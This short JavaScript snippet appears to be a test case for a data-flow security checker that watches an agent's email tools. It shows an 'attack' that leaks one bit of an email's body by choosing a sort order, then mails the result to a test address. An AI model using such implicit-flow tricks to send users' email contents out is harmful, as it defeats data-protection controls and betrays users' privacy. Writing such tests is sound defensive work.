// attack: the email chooses between two number-only comparators; the order says which
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const up = (a, b) => a - b;
const down = (a, b) => b - a;
const xs = [1, 2, 3];
xs.sort(m.body.includes('a') ? up : down);
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: String(xs[0]) });
